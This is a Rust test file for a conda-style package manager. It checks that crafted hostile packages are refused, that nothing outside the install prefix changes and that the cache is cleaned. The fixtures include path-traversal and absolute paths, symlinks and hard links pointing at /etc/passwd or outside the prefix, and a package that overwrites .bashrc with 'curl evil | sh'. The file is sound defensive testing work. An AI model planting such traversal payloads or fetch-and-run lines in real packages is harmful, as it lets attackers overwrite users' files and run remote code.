//! Packages that try to reach outside their prefix, or that are not what they claim: each
//! is refused with an error naming the package and the path, the prefix stays exactly as
//! it was, nothing outside it changes, and the bad cache entry is gone.

use std::path::{Path, PathBuf};

use serde_json::json;
use taipan_testkit::{ArchiveFormat, ChannelBuilder, PackageBuilder, RawPackage};

use crate::common::{output, tree, TestContext};

/// A channel with an ordinary package (`plain`) and the given raw ones.
fn channel(ctx: &TestContext, raw: &[(RawPackage, ArchiveFormat)]) -> ChannelBuilder {
    let mut ch = ChannelBuilder::new(&ctx.path("hostile-channel"));
    ch.add(
        &PackageBuilder::new("plain", "1.0").file("share/plain.txt", "plain\n"),
        ArchiveFormat::Conda,
    );
    for (pkg, format) in raw {
        ch.add_raw(pkg, *format);
    }
    ch.index().expect("index the hostile channel");
    ch
}

/// Everything a refused install must leave alone.
struct Watch {
    prefix: PathBuf,
    before: Vec<Vec<String>>,
    dirs: Vec<PathBuf>,
}

impl Watch {
    fn new(ctx: &TestContext, prefix: &Path) -> Self {
        let outside = ctx.path("outside");
        std::fs::create_dir_all(&outside).unwrap();
        std::fs::write(outside.join("keep.txt"), "the user's file\n").unwrap();
        std::fs::write(ctx.home.join(".bashrc"), "# the user's bashrc\n").unwrap();
        let dirs = vec![prefix.to_path_buf(), outside, ctx.home.clone()];
        let before = dirs.iter().map(|d| tree(d)).collect();
        Self {
            prefix: prefix.to_path_buf(),
            before,
            dirs,
        }
    }

    fn unchanged(&self, ctx: &TestContext) {
        for (dir, before) in self.dirs.iter().zip(&self.before) {
            assert_eq!(&tree(dir), before, "{} changed", dir.display());
        }
        let stray: Vec<String> = std::fs::read_dir(ctx.temp.path())
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| {
                ![
                    "home",
                    "root",
                    "env",
                    "outside",
                    "hostile-channel",
                    "etc-conda",
                ]
                .contains(&n.as_str())
            })
            .collect();
        assert!(stray.is_empty(), "written outside the prefix: {stray:?}");
        assert!(
            !self.prefix.join(".taipan-transaction").exists(),
            "journal left behind"
        );
    }
}

/// Installs `spec` from `url` into a prefix holding `plain`, expecting a refusal whose
/// message contains every needle.
fn refused(ctx: &TestContext, url: &str, spec: &str, needles: &[&str]) -> String {
    let prefix = ctx.path("env");
    if !prefix.exists() {
        ctx.cmd()
            .args(["create", "-y", "-q", "--override-channels", "-c", url, "-p"])
            .arg(&prefix)
            .arg("plain")
            .assert()
            .success();
    }
    let watch = Watch::new(ctx, &prefix);
    let (code, out, err) = output(
        ctx.cmd()
            .args(["install", "-y", "--override-channels", "-c", url, "-p"])
            .arg(&prefix)
            .arg(spec),
    );
    assert_eq!(code, 1, "stdout: {out}\nstderr: {err}");
    for needle in needles {
        assert!(err.contains(needle), "missing {needle:?} in:\n{err}");
    }
    assert!(!err.contains("panicked"), "{err}");
    watch.unchanged(ctx);
    err
}

fn no_cache_entry(ctx: &TestContext, stem: &str) {
    let entry = ctx.root.join("pkgs").join(stem);
    assert!(!entry.exists(), "{} was kept in the cache", entry.display());
    let temps: Vec<String> = std::fs::read_dir(ctx.root.join("pkgs"))
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(&format!(".{stem}")) || n.ends_with(".partial"))
        .collect();
    assert!(temps.is_empty(), "leftovers in the cache: {temps:?}");
}

#[test]
fn paths_json_leading_out_of_the_prefix_is_refused() {
    // The payload is harmless; `paths.json` points linking at `../../.bashrc`.
    let pkg = RawPackage::new("dotdot", "1.0")
        .file("share/x", "x\n")
        .undeclared("share/x")
        .declare(
            json!({"_path": "../../home/.bashrc", "path_type": "hardlink", "size_in_bytes": 2}),
        );
    for format in [ArchiveFormat::TarBz2, ArchiveFormat::Conda] {
        let ctx = TestContext::new();
        let ch = channel(&ctx, &[(pkg.clone(), format)]);
        refused(
            &ctx,
            ch.url().as_str(),
            "dotdot",
            &[
                "CondaVerificationError",
                "dotdot-1.0-0",
                "../../home/.bashrc",
                "leads out of the prefix",
            ],
        );
        no_cache_entry(&ctx, "dotdot-1.0-0");
    }
}

#[test]
fn a_root_prefix_in_home_cannot_replace_bashrc() {
    // The case seen in the wild: a root prefix at ~/miniconda3 and a package naming
    // `../.bashrc`, as a member and in `paths.json`.
    let ctx = TestContext::new();
    let root = ctx.home.join("miniconda3");
    let pkg = RawPackage::new("rcwriter", "1.0").file("../.bashrc", "curl evil | sh\n");
    let ch = channel(&ctx, &[(pkg, ArchiveFormat::TarBz2)]);
    std::fs::write(ctx.home.join(".bashrc"), "# mine\n").unwrap();
    let (code, _, err) = output(
        ctx.cmd()
            .env("CONDA_ROOT_PREFIX", &root)
            .args([
                "create",
                "-y",
                "--override-channels",
                "-c",
                ch.url().as_str(),
                "-p",
            ])
            .arg(&root)
            .arg("rcwriter"),
    );
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("rcwriter-1.0-0") && err.contains("../.bashrc"),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(ctx.home.join(".bashrc")).unwrap(),
        "# mine\n"
    );
    assert!(!root.join("conda-meta").exists());
}

#[test]
fn absolute_paths_are_refused_without_a_panic() {
    let ctx = TestContext::new();
    let target = ctx.path("outside/abs.txt");
    let pkg = RawPackage::new("absolute", "1.0")
        .file("share/a", "a\n")
        .undeclared("share/a")
        .declare(json!({"_path": target.display().to_string(), "path_type": "hardlink", "size_in_bytes": 2}));
    let ch = channel(&ctx, &[(pkg, ArchiveFormat::Conda)]);
    refused(
        &ctx,
        ch.url().as_str(),
        "absolute",
        &["absolute-1.0-0", "is an absolute path"],
    );
    assert!(!target.exists());
}

#[test]
fn archive_members_with_dotdot_or_absolute_names_are_refused() {
    for (name, why) in [
        ("../../outside/evil", "leads out of the package"),
        ("/tmp/taipan-abs-evil", "is an absolute path"),
    ] {
        for format in [ArchiveFormat::TarBz2, ArchiveFormat::Conda] {
            let ctx = TestContext::new();
            let pkg = RawPackage::new("member", "1.0").file(name, "evil\n");
            let ch = channel(&ctx, &[(pkg, format)]);
            refused(&ctx, ch.url().as_str(), "member", &["member-1.0-0", why]);
            no_cache_entry(&ctx, "member-1.0-0");
        }
    }
    assert!(!Path::new("/tmp/taipan-abs-evil").exists());
}

#[test]
fn a_hard_link_member_to_a_file_outside_is_refused() {
    let ctx = TestContext::new();
    let pkg =
        RawPackage::new("hardout", "1.0").hard_link("share/passwd", "../../../../../../etc/passwd");
    let ch = channel(&ctx, &[(pkg, ArchiveFormat::TarBz2)]);
    refused(
        &ctx,
        ch.url().as_str(),
        "hardout",
        &["hardout-1.0-0", "share/passwd"],
    );
}

#[test]
fn links_that_lead_outside_are_refused() {
    for target in ["/etc", "../../../outside", "sub/../../../outside"] {
        let ctx = TestContext::new();
        let pkg = RawPackage::new("linkout", "1.0").symlink("lib/d", target);
        let ch = channel(&ctx, &[(pkg, ArchiveFormat::Conda)]);
        refused(
            &ctx,
            ch.url().as_str(),
            "linkout",
            &["linkout-1.0-0", "lib/d"],
        );
        no_cache_entry(&ctx, "linkout-1.0-0");
    }
}

#[test]
fn a_file_is_never_written_through_a_link_to_outside() {
    // The two-package chain: A links `lib/d` out of the prefix, B writes `lib/d/f`. A is
    // refused on its own; B alone meets a link a user made, and is refused too.
    let ctx = TestContext::new();
    let a = RawPackage::new("linker", "1.0").symlink("lib/d", "../../outside");
    let b = RawPackage::new("writer", "1.0")
        .depends("linker")
        .file("lib/d/keep.txt", "overwritten\n");
    let b2 = RawPackage::new("writer2", "1.0").file("lib/d/keep.txt", "overwritten\n");
    let ch = channel(
        &ctx,
        &[
            (a, ArchiveFormat::Conda),
            (b, ArchiveFormat::Conda),
            (b2, ArchiveFormat::TarBz2),
        ],
    );
    refused(
        &ctx,
        ch.url().as_str(),
        "writer",
        &["linker-1.0-0", "lib/d"],
    );
    // A link the user made (or an older version left) leading outside.
    let prefix = ctx.path("env");
    std::fs::create_dir_all(prefix.join("lib")).unwrap();
    std::os::unix::fs::symlink(ctx.path("outside"), prefix.join("lib/d")).unwrap();
    let err = refused(
        &ctx,
        ch.url().as_str(),
        "writer2",
        &["writer2-1.0-0", "lib/d/keep.txt"],
    );
    assert!(err.contains("link that leads outside"), "{err}");
    assert_eq!(
        std::fs::read_to_string(ctx.path("outside/keep.txt")).unwrap(),
        "the user's file\n"
    );
}

#[test]
fn an_entry_point_outside_bin_is_refused() {
    let ctx = TestContext::new();
    let mut ch = ChannelBuilder::new(&ctx.path("hostile-channel"));
    for (pkg, fmt) in crate::common::standard_packages() {
        if pkg.name() == "python" || pkg.name() == "pip" {
            ch.add(&pkg, fmt);
        }
    }
    ch.add(
        &PackageBuilder::new("plain", "1.0").file("share/plain.txt", "plain\n"),
        ArchiveFormat::Conda,
    );
    ch.add_raw(
        &RawPackage::new("entry", "1.0")
            .noarch_python(&["../../../outside/evil = os:getcwd"])
            .depends("python")
            .file("site-packages/entry.py", "\n"),
        ArchiveFormat::Conda,
    );
    ch.index().unwrap();
    let prefix = ctx.path("env");
    ctx.cmd()
        .args([
            "create",
            "-y",
            "-q",
            "--override-channels",
            "-c",
            ch.url().as_str(),
            "-p",
        ])
        .arg(&prefix)
        .args(["plain", "python=3.11"])
        .assert()
        .success();
    refused(
        &ctx,
        ch.url().as_str(),
        "entry",
        &[
            "CondaVerificationError",
            "entry-1.0-0",
            "info/link.json",
            "must not contain path separators",
        ],
    );
    assert!(!ctx.path("outside/evil").exists());
}

#[test]
fn a_directory_link_inside_the_prefix_is_linked_before_files_below_it() {
    // `lib64 -> lib` and a package writing `lib64/f` in one transaction: legal, and the
    // link exists before the file, whatever the order of linking.
    let ctx = TestContext::new();
    let mut ch = ChannelBuilder::new(&ctx.path("ch"));
    ch.add(
        &PackageBuilder::new("sysroot", "1.0")
            .symlink("lib64", "lib")
            .file("lib/libc.txt", "c\n"),
        ArchiveFormat::Conda,
    );
    for i in 0..6 {
        ch.add(
            &PackageBuilder::new(&format!("user{i}"), "1.0")
                .depends("sysroot")
                .file(&format!("lib64/user{i}.txt"), "u\n"),
            ArchiveFormat::Conda,
        );
    }
    ch.index().unwrap();
    for round in 0..4 {
        let prefix = ctx.path(&format!("env{round}"));
        let (code, _, err) = output(
            ctx.cmd()
                .args([
                    "create",
                    "-y",
                    "-q",
                    "--override-channels",
                    "-c",
                    ch.url().as_str(),
                    "-p",
                ])
                .arg(&prefix)
                .args(["user0", "user1", "user2", "user3", "user4", "user5"]),
        );
        assert_eq!(code, 0, "{err}");
        assert!(!err.contains("rollback"), "{err}");
        assert!(std::fs::symlink_metadata(prefix.join("lib64"))
            .unwrap()
            .file_type()
            .is_symlink());
        for i in 0..6 {
            assert!(prefix.join(format!("lib/user{i}.txt")).is_file());
        }
    }
}

#[test]
fn removing_a_record_that_names_paths_outside_leaves_them_alone() {
    // A record written by an older version from a hostile package.
    let ctx = TestContext::new();
    let ch = channel(&ctx, &[]);
    let prefix = ctx.path("env");
    ctx.cmd()
        .args([
            "create",
            "-y",
            "-q",
            "--override-channels",
            "-c",
            ch.url().as_str(),
            "-p",
        ])
        .arg(&prefix)
        .arg("plain")
        .assert()
        .success();
    let victim = ctx.path("outside/victim.txt");
    std::fs::create_dir_all(victim.parent().unwrap()).unwrap();
    std::fs::write(&victim, "keep me\n").unwrap();
    let record = prefix.join("conda-meta/plain-1.0-0.json");
    let mut json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&record).unwrap()).unwrap();
    json["files"]
        .as_array_mut()
        .unwrap()
        .push(json!("../outside/victim.txt"));
    json["paths_data"]["paths"]
        .as_array_mut()
        .unwrap()
        .push(json!({"_path": victim.display().to_string(), "path_type": "hardlink"}));
    std::fs::write(&record, serde_json::to_vec(&json).unwrap()).unwrap();
    let (code, _, err) = output(
        ctx.cmd()
            .args(["remove", "-y", "-p"])
            .arg(&prefix)
            .arg("plain"),
    );
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("left alone"), "{err}");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me\n");
    assert!(!prefix.join("share/plain.txt").exists());
}

#[test]
fn a_symlink_declared_but_stored_as_a_file_is_refused_and_purged() {
    // What a broken public zlib build does: `paths.json` declares links, the archive holds
    // empty regular files there.
    for format in [ArchiveFormat::TarBz2, ArchiveFormat::Conda] {
        let ctx = TestContext::new();
        let pkg = RawPackage::new("zlibish", "1.2.11")
            .file("lib/libz.so.1.2.11", "ELF\n")
            .file("lib/libz.so", "")
            .undeclared("lib/libz.so")
            .declare(json!({"_path": "lib/libz.so", "path_type": "softlink", "size_in_bytes": 0}));
        let ch = channel(&ctx, &[(pkg, format)]);
        refused(
            &ctx,
            ch.url().as_str(),
            "zlibish",
            &[
                "CondaVerificationError",
                "zlibish-1.2.11-0",
                "lib/libz.so",
                "symbolic link",
            ],
        );
        no_cache_entry(&ctx, "zlibish-1.2.11-0");
    }
}
